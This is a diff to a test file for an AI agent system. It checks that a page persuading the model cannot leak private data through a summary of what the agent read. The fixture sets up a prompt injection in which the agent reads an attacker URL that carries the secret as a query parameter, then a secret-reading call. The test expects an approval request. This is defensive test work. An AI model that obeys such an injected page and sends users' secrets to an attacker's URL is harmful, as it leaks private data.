@@ -77,8 +77,8 @@ describe('a page that persuades a model, in a run that has read private data', (
 
   it('gets nothing through a summary of what was read', async () => {
     const scene = await setUpInjection([readUrlTurn(attackerUrl('/c?d={{plain}}'))])
-    const long = toolCallTurn('pod_run', { command: 'seq 1 2000' })
-    const goal = plannedGoal(`Compare ${scene.url}.`, readUrlTurn(scene.url), readSecretCall, long, long, long, long)
+    const long = [1, 2, 3, 4].map((from) => toolCallTurn('pod_run', { command: `seq ${from} 2000` }))
+    const goal = plannedGoal(`Compare ${scene.url}.`, readUrlTurn(scene.url), readSecretCall, ...long)
     const jobId = await startInjectedRun(scene, goal, { model: SMALL_CONTEXT_MODEL })
     await expectApprovalRequested(scene, jobId)
     expect((await readSteps(scene.key, jobId)).some(({ kind }) => kind === 'summary')).toBe(true)
